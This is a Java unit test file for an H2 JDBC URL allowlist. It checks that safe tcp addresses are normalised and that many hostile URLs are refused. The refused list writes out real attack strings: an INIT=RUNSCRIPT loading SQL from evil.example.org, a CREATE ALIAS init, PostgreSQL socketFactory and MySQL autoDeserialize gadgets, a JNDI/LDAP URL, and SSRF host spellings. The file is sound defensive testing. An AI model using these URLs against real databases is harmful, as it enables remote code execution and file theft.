/* SPDX-License-Identifier: Apache-2.0 */
package io.bascule.jdbc.internal;

import java.time.Duration;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Which addresses are allowed; the refused ones are spellings that have opened files or run code elsewhere. */
class H2UrlRuleTest {
    private static final Set<String> HOSTS = new TreeSet<>(Set.of("127.0.0.1", "localhost", "::1", "db.example.org"));

    private final H2UrlRule rule = new H2UrlRule();

    private String read(String url) throws UrlRefused {
        return rule.read(url, HOSTS, Duration.ofSeconds(30)).url();
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:h2:tcp://127.0.0.1:9092/shop, jdbc:h2:tcp://127.0.0.1:9092/shop;IFEXISTS=TRUE;NETWORK_TIMEOUT=30000",
        "jdbc:h2:tcp://LOCALHOST/~/data/shop.1, jdbc:h2:tcp://LOCALHOST/~/data/shop.1;IFEXISTS=TRUE;NETWORK_TIMEOUT=30000",
        "jdbc:h2:tcp://[::1]:9092//srv/shop, jdbc:h2:tcp://[::1]:9092//srv/shop;IFEXISTS=TRUE;NETWORK_TIMEOUT=30000",
        "jdbc:h2:tcp://db.example.org:1/a;schema=Sales;ifexists=true,"
                + " jdbc:h2:tcp://db.example.org:1/a;SCHEMA=Sales;IFEXISTS=TRUE;NETWORK_TIMEOUT=30000",
        "jdbc:h2:tcp://127.0.0.1/a;LOCK_TIMEOUT=500,"
                + " jdbc:h2:tcp://127.0.0.1/a;LOCK_TIMEOUT=500;IFEXISTS=TRUE;NETWORK_TIMEOUT=30000"
    })
    void putsAnAllowedAddressTogetherAnew(String url, String expected) throws UrlRefused {
        assertThat(read(url)).isEqualTo(expected);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "jdbc:h2:",
                "jdbc:h2:mem:shop",
                "jdbc:h2:mem:",
                "jdbc:h2:shop",
                "jdbc:h2:~/shop",
                "jdbc:h2:./shop",
                "jdbc:h2:/etc/shop",
                "jdbc:h2:file:/etc/shop",
                "jdbc:h2:file:~/shop",
                "jdbc:h2:nio:/tmp/shop",
                "jdbc:h2:nioMapped:/tmp/shop",
                "jdbc:h2:async:/tmp/shop",
                "jdbc:h2:split:20:/tmp/shop",
                "jdbc:h2:zip:/tmp/shop.zip!/shop",
                "jdbc:h2:classpath:shop",
                "jdbc:h2:ssl://127.0.0.1:9092/shop",
                "jdbc:h2:ssh://127.0.0.1/shop",
                "jdbc:h2:TCP://127.0.0.1:9092/shop",
                "JDBC:H2:tcp://127.0.0.1:9092/shop",
                " jdbc:h2:tcp://127.0.0.1:9092/shop",
                "jdbc:h2:tcp://127.0.0.1:9092/shop ",
                "jdbc:h2:tcp://127.0.0.1:9092/shop\n",
                "jdbc:h2:tcp:127.0.0.1:9092/shop",
                "jdbc:h2:tcp:/127.0.0.1:9092/shop",
                "jdbc:h2:tcp://127.0.0.1:9092",
                "jdbc:h2:tcp://127.0.0.1:9092/",
                "jdbc:h2:tcp://:9092/shop",
                "jdbc:h2:tcp://127.0.0.1:/shop",
                "jdbc:h2:tcp://127.0.0.1:0/shop",
                "jdbc:h2:tcp://127.0.0.1:65536/shop",
                "jdbc:h2:tcp://127.0.0.1:999999999/shop",
                "jdbc:h2:tcp://127.0.0.1:99999999999999999999/shop",
                "jdbc:h2:tcp://127.0.0.1:-1/shop",
                "jdbc:h2:tcp://127.0.0.1:90x/shop",
                "jdbc:h2:tcp://10.0.0.1:9092/shop",
                "jdbc:h2:tcp://169.254.169.254/shop",
                "jdbc:h2:tcp://127.0.0.2/shop",
                "jdbc:h2:tcp://2130706433/shop",
                "jdbc:h2:tcp://0x7f000001/shop",
                "jdbc:h2:tcp://127.1/shop",
                "jdbc:h2:tcp://evil.example.org/shop",
                "jdbc:h2:tcp://127.0.0.1.evil.example.org/shop",
                "jdbc:h2:tcp://localhost.evil.example.org/shop",
                "jdbc:h2:tcp://127.0.0.1,evil.example.org/shop",
                "jdbc:h2:tcp://127.0.0.1:9092,10.0.0.1:9092/shop",
                "jdbc:h2:tcp://127.0.0.1@evil.example.org/shop",
                "jdbc:h2:tcp://user:pw@127.0.0.1/shop",
                "jdbc:h2:tcp://evil.example.org#127.0.0.1/shop",
                "jdbc:h2:tcp://127.0.0.1\\@evil.example.org/shop",
                "jdbc:h2:tcp://[::2]/shop",
                "jdbc:h2:tcp://[::ffff:127.0.0.1]/shop",
                "jdbc:h2:tcp://ⓛocalhost/shop",
                "jdbc:h2:tcp://localhost\u0000.evil/shop",
                "jdbc:h2:tcp://127.0.0.1/mem:shop",
                "jdbc:h2:tcp://127.0.0.1/zip:/tmp/a.zip!/b",
                "jdbc:h2:tcp://127.0.0.1/../shop",
                "jdbc:h2:tcp://127.0.0.1/a/../../shop",
                "jdbc:h2:tcp://127.0.0.1/a//b",
                "jdbc:h2:tcp://127.0.0.1/a\\b",
                "jdbc:h2:tcp://127.0.0.1/%2e%2e/shop",
                "jdbc:h2:tcp://127.0.0.1/shop?INIT=x",
                "jdbc:h2:tcp://127.0.0.1/shop;",
                "jdbc:h2:tcp://127.0.0.1/shop;;IFEXISTS=TRUE",
                "jdbc:h2:tcp://127.0.0.1/shop;INIT=RUNSCRIPT FROM 'http://evil.example.org/x.sql'",
                "jdbc:h2:tcp://127.0.0.1/shop;init=create alias x as '...'",
                "jdbc:h2:tcp://127.0.0.1/shop;iNiT=x",
                "jdbc:h2:tcp://127.0.0.1/shop; INIT=x",
                "jdbc:h2:tcp://127.0.0.1/shop;INIT =x",
                "jdbc:h2:tcp://127.0.0.1/shop;\\INIT=x",
                "jdbc:h2:tcp://127.0.0.1/shop;ıNIT=x",
                "jdbc:h2:tcp://127.0.0.1/shop;SCHEMA=a\\;INIT=x",
                "jdbc:h2:tcp://127.0.0.1/shop;SCHEMA=a;INIT=x",
                "jdbc:h2:tcp://127.0.0.1/shop;SCHEMA=a b",
                "jdbc:h2:tcp://127.0.0.1/shop;SCHEMA=\"a\"",
                "jdbc:h2:tcp://127.0.0.1/shop;SCHEMA=a;SCHEMA=b",
                "jdbc:h2:tcp://127.0.0.1/shop;SCHEMA",
                "jdbc:h2:tcp://127.0.0.1/shop;IFEXISTS=FALSE",
                "jdbc:h2:tcp://127.0.0.1/shop;RUNSCRIPT=x",
                "jdbc:h2:tcp://127.0.0.1/shop;TRACE_LEVEL_FILE=3",
                "jdbc:h2:tcp://127.0.0.1/shop;TRACE_LEVEL_SYSTEM_OUT=3",
                "jdbc:h2:tcp://127.0.0.1/shop;TRACE_MAX_FILE_SIZE=1",
                "jdbc:h2:tcp://127.0.0.1/shop;DATABASE_EVENT_LISTENER='x'",
                "jdbc:h2:tcp://127.0.0.1/shop;AUTHENTICATOR=x",
                "jdbc:h2:tcp://127.0.0.1/shop;AUTHREALM=x",
                "jdbc:h2:tcp://127.0.0.1/shop;JAVA_OBJECT_SERIALIZER='x'",
                "jdbc:h2:tcp://127.0.0.1/shop;CIPHER=AES",
                "jdbc:h2:tcp://127.0.0.1/shop;MODE=PostgreSQL",
                "jdbc:h2:tcp://127.0.0.1/shop;AUTO_SERVER=TRUE",
                "jdbc:h2:tcp://127.0.0.1/shop;FORBID_CREATION=FALSE",
                "jdbc:h2:tcp://127.0.0.1/shop;NETWORK_TIMEOUT=0",
                "jdbc:h2:tcp://127.0.0.1/shop;USER=sa",
                "jdbc:h2:tcp://127.0.0.1/shop;PASSWORD=hunter2",
                "jdbc:postgresql://127.0.0.1/shop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://127.0.0.1/shop",
                "jdbc:mysql://127.0.0.1/shop?autoDeserialize=true",
                "jdbc:derby:memory:x;create=true",
                "jdbc:hsqldb:file:/tmp/x",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:jndi:ldap://evil.example.org/x",
                "ldap://evil.example.org/x",
                "java:comp/env/jdbc/x"
            })
    void refusesEverythingElse(String url) {
        assertThatThrownBy(() -> read(url)).isInstanceOf(UrlRefused.class);
    }

    @Test
    void saysWhatIsAllowedAndKeepsWhatCouldBeSecret() {
        assertThatThrownBy(() -> read("jdbc:h2:tcp://127.0.0.1/shop;PASSWORD=hunter2"))
                .hasMessageContaining("IFEXISTS, LOCK_TIMEOUT, SCHEMA")
                .hasMessageContaining("secret:NAME")
                .hasMessageContaining("PASSWORD")
                .hasMessageNotContaining("hunter2");
        assertThatThrownBy(() -> read("jdbc:h2:tcp://evil.example.org/shop"))
                .hasMessageContaining("127.0.0.1, ::1, db.example.org, localhost")
                .hasMessageContaining("evil.example.org");
        assertThatThrownBy(() -> read("jdbc:h2:mem:hunter2"))
                .hasMessageContaining("jdbc:h2:tcp://HOST:PORT/DATABASE")
                .hasMessageNotContaining("hunter2");
    }
}
